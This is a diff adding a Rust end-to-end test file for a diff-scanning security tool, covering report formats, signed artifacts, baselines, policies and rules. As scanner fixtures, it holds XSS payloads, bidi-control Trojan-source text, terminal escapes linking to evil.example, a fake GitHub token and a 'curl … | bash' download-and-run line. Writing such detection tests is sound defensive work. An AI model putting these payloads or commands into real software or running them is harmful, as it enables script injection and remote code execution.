@@ -1,0 +1,363 @@
+//! End-to-end tests of the reports, artifacts, baselines, rules and policy
+//! subcommands, as a process.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::{Path, PathBuf};
+use std::process::Command as Std;
+
+use assert_cmd::Command;
+
+fn sample(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../examples/diffs")
+        .join(name)
+}
+
+fn diffver() -> Command {
+    Command::cargo_bin("diffver").unwrap()
+}
+
+fn out(cmd: &mut Command, code: i32) -> String {
+    let a = cmd.assert().code(code);
+    String::from_utf8(a.get_output().stdout.clone()).unwrap()
+}
+
+const NOW: &str = "2026-11-29T09:00:00Z";
+
+/// A diff with markup, bidi controls, ANSI escapes and a secret.
+fn hostile() -> Vec<u8> {
+    let body = "<script>alert(document.cookie)</script>\n\
+                let access = \"user\"; /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\n\
+                echo \"ok\"\x1b[2K\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\n\
+                token = \"ghp_8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG\"\n\
+                <img src=x onerror=alert(1)>";
+    let lines: Vec<&str> = body.split('\n').collect();
+    let mut d = format!(
+        "diff --git a/web/page.html b/web/page.html\nnew file mode 100644\n--- /dev/null\n+++ b/web/page.html\n@@ -0,0 +1,{} @@\n",
+        lines.len()
+    );
+    for l in lines {
+        d.push('+');
+        d.push_str(l);
+        d.push('\n');
+    }
+    d.into_bytes()
+}
+
+#[test]
+fn every_format_renders() {
+    for (fmt, needle) in [
+        ("text", "FAIL:"),
+        ("json", "\"schema\": \"diffver.verdict/v1\""),
+        ("sarif", "\"version\": \"2.1.0\""),
+        ("html", "<!DOCTYPE html>"),
+        ("github", "::error file=install.sh"),
+    ] {
+        let s = out(
+            diffver()
+                .args(["scan", "--now", NOW, "--format", fmt])
+                .arg(sample("suspicious-pr.diff")),
+            1,
+        );
+        assert!(s.contains(needle), "{fmt}: {s}");
+        assert!(!s.contains('\x1b'), "{fmt} output carries a raw ESC");
+    }
+}
+
+#[test]
+fn html_report_is_inert() {
+    let dir = tempfile::tempdir().unwrap();
+    let html_path = dir.path().join("r.html");
+    diffver()
+        .args(["scan", "--now", NOW, "--format", "html", "-o"])
+        .arg(&html_path)
+        .write_stdin(hostile())
+        .assert()
+        .code(1);
+    let html = std::fs::read_to_string(&html_path).unwrap();
+    for c in ['\u{202E}', '\u{2066}', '\u{2069}', '\x1b', '\x07'] {
+        assert!(!html.contains(c), "raw U+{:04X} in the HTML", c as u32);
+    }
+    assert!(html.contains("⟨U+202E⟩") && html.contains("⟨U+001B⟩"));
+    assert!(
+        !html.contains("8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG"),
+        "the secret is redacted in the diff view too"
+    );
+    assert!(html.contains("ghp_****"));
+    // Parse it: only the renderer's own elements and attributes may appear.
+    let checker = r##"
+import sys, html.parser
+allowed = {"html","head","meta","title","style","body","h1","h2","p","code","table","tr","th","td","a","pre","span"}
+bad = []
+class P(html.parser.HTMLParser):
+    def handle_starttag(self, tag, attrs):
+        if tag not in allowed: bad.append(tag)
+        for k, v in attrs:
+            if k.startswith("on") or (k in ("href", "src") and v and not v.startswith("#")): bad.append(f"{tag}.{k}={v}")
+P().feed(open(sys.argv[1], encoding="utf-8").read())
+print("\n".join(bad)); sys.exit(1 if bad else 0)
+"##;
+    let r = Std::new("python3")
+        .arg("-c")
+        .arg(checker)
+        .arg(&html_path)
+        .output()
+        .expect("python3 is needed to parse the HTML report");
+    assert!(
+        r.status.success(),
+        "unexpected markup: {}",
+        String::from_utf8_lossy(&r.stdout)
+    );
+}
+
+#[test]
+fn sarif_has_what_code_scanning_needs() {
+    let s = out(
+        diffver()
+            .args(["scan", "--now", NOW, "--format", "sarif"])
+            .arg(sample("suspicious-pr.diff")),
+        1,
+    );
+    let v: serde_json::Value = serde_json::from_str(&s).unwrap();
+    let run = &v["runs"][0];
+    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
+    assert!(
+        rules
+            .iter()
+            .all(|r| r["shortDescription"]["text"].is_string()
+                && r["properties"]["security-severity"].is_string())
+    );
+    for r in run["results"].as_array().unwrap() {
+        assert!(
+            r["partialFingerprints"]["diffver/v1"]
+                .as_str()
+                .unwrap()
+                .len()
+                == 64
+        );
+        assert!(
+            r["locations"][0]["physicalLocation"]["region"]["startLine"]
+                .as_u64()
+                .unwrap()
+                >= 1
+        );
+        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
+        assert_eq!(rules[idx]["id"], r["ruleId"]);
+    }
+}
+
+#[test]
+fn artifacts_are_reproducible_verifiable_and_tamper_evident() {
+    let dir = tempfile::tempdir().unwrap();
+    let (a, b) = (dir.path().join("a.json"), dir.path().join("b.json"));
+    for p in [&a, &b] {
+        diffver()
+            .args(["scan", "--now", NOW, "--scan-id", "pr-7", "--artifact"])
+            .arg(p)
+            .arg(sample("suspicious-pr.diff"))
+            .assert()
+            .code(1);
+    }
+    let (ba, bb) = (std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
+    assert_eq!(ba, bb, "two runs give identical artifact bytes");
+    let s = out(diffver().arg("verify").arg(&a), 0);
+    assert!(
+        s.starts_with("valid: scan pr-7 at 2026-11-29T09:00:00Z decided fail"),
+        "{s}"
+    );
+    let mut t = ba.clone();
+    let mid = t.len() / 2;
+    t[mid] ^= 0x20;
+    std::fs::write(&b, &t).unwrap();
+    let r = diffver().arg("verify").arg(&b).assert().code(1);
+    assert!(String::from_utf8_lossy(&r.get_output().stderr).starts_with("invalid: "));
+    // Operator keys; the development key is refused in production.
+    let key = dir.path().join("k");
+    std::fs::write(&key, "operator secret\n").unwrap();
+    diffver()
+        .args(["scan", "--production", "--artifact"])
+        .arg(dir.path().join("c.json"))
+        .arg(sample("clean.diff"))
+        .assert()
+        .code(2);
+    diffver()
+        .args(["scan", "--production", "--key-id", "ops-1", "--key-file"])
+        .arg(&key)
+        .arg("--artifact")
+        .arg(dir.path().join("c.json"))
+        .arg(sample("clean.diff"))
+        .assert()
+        .code(0);
+    out(
+        diffver()
+            .args(["verify", "--key-id", "ops-1", "--key-file"])
+            .arg(&key)
+            .arg(dir.path().join("c.json")),
+        0,
+    );
+    diffver()
+        .arg("verify")
+        .arg(dir.path().join("c.json"))
+        .assert()
+        .code(1);
+    diffver()
+        .arg("verify")
+        .arg(dir.path().join("missing.json"))
+        .assert()
+        .code(2);
+}
+
+#[test]
+fn baseline_create_then_scan_passes() {
+    let dir = tempfile::tempdir().unwrap();
+    let bl = dir.path().join("baseline.json");
+    diffver()
+        .args(["baseline", "create", "-o"])
+        .arg(&bl)
+        .arg(sample("suspicious-pr.diff"))
+        .assert()
+        .code(0);
+    diffver()
+        .args(["scan", "--baseline"])
+        .arg(&bl)
+        .arg(sample("suspicious-pr.diff"))
+        .assert()
+        .code(0);
+    let first = std::fs::read(&bl).unwrap();
+    diffver()
+        .args(["baseline", "update", "--baseline"])
+        .arg(&bl)
+        .arg(sample("suspicious-pr.diff"))
+        .assert()
+        .code(0);
+    assert_eq!(
+        std::fs::read(&bl).unwrap(),
+        first,
+        "updating with the same findings does not churn"
+    );
+}
+
+#[test]
+fn policies_from_files_and_malformed_ones() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("p.toml");
+    std::fs::write(
+        &p,
+        "schema = \"diffver.policy/v1\"\nid = \"team\"\nblock_at = \"critical\"\n",
+    )
+    .unwrap();
+    diffver()
+        .args(["scan", "--policy"])
+        .arg(&p)
+        .arg(sample("suspicious-pr.diff"))
+        .assert()
+        .code(0);
+    let s = out(diffver().args(["policy", "check"]).arg(&p), 0);
+    assert!(s.starts_with("ok: policy team version 1 sha256 "), "{s}");
+    std::fs::write(
+        &p,
+        "schema = \"diffver.policy/v1\"\nid = \"team\"\nblock_at = \"sometimes\"\n",
+    )
+    .unwrap();
+    let r = diffver()
+        .args(["scan", "--policy"])
+        .arg(&p)
+        .arg(sample("clean.diff"))
+        .assert()
+        .code(2);
+    let err = String::from_utf8_lossy(&r.get_output().stderr).into_owned();
+    assert!(
+        err.contains("field `block_at`") && err.contains("unknown severity"),
+        "{err}"
+    );
+    diffver()
+        .args(["policy", "check", "strict"])
+        .assert()
+        .code(0);
+    diffver()
+        .args(["policy", "check", "nonexistent.toml"])
+        .assert()
+        .code(2);
+}
+
+#[test]
+fn rules_list_explain_and_test() {
+    let s = out(diffver().args(["rules", "list"]), 0);
+    assert!(s.lines().count() >= 40 && s.contains("pi.instruction-override"));
+    let s = out(
+        diffver().args(["rules", "explain", "secret.github-token"]),
+        0,
+    );
+    assert!(s.contains("remediation:") && s.contains("matches:"));
+    diffver()
+        .args(["rules", "explain", "no.such"])
+        .assert()
+        .code(2);
+    assert!(out(diffver().args(["rules", "test"]), 0).contains("0 example failure(s)"));
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("r.toml");
+    std::fs::write(&f, "schema = \"diffver.rules/v1\"\n[[rule]]\nid = \"t.x\"\ntitle = \"T\"\ndescription = \"D\"\ncategory = \"secret\"\nseverity = \"low\"\nkeywords = [\"abc\"]\nregex = 'abc'\nexamples.positive = [\"xyz\"]\nexamples.negative = [\"abc\"]\n").unwrap();
+    let s = out(diffver().args(["rules", "test"]).arg(&f), 1);
+    assert!(s.contains("2 example failure(s)"), "{s}");
+}
+
+#[test]
+fn git_range_on_a_scratch_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| {
+        let s = Std::new("git")
+            .args(args)
+            .current_dir(dir.path())
+            .env("HOME", dir.path())
+            .status()
+            .unwrap();
+        assert!(s.success());
+    };
+    git(&["init", "-q"]);
+    std::fs::write(dir.path().join("a.sh"), "echo hi\n").unwrap();
+    git(&["add", "-A"]);
+    git(&[
+        "-c",
+        "user.name=T",
+        "-c",
+        "user.email=t@e",
+        "commit",
+        "-qm",
+        "a",
+    ]);
+    std::fs::write(
+        dir.path().join("a.sh"),
+        "echo hi\ncurl -s https://x.example/i.sh | bash\n",
+    )
+    .unwrap();
+    git(&[
+        "-c",
+        "user.name=T",
+        "-c",
+        "user.email=t@e",
+        "commit",
+        "-qam",
+        "b",
+    ]);
+    let s = out(
+        diffver()
+            .current_dir(dir.path())
+            .args(["scan", "--git", "HEAD~1..HEAD"]),
+        1,
+    );
+    assert!(
+        s.contains("exec.download-pipe-shell") && s.contains("git diff HEAD~1..HEAD"),
+        "{s}"
+    );
+    diffver()
+        .current_dir(dir.path())
+        .args(["scan", "--git", "--output=x"])
+        .assert()
+        .code(2);
+    diffver()
+        .current_dir(dir.path())
+        .args(["scan", "--git", "nosuchref"])
+        .assert()
+        .code(2);
+}
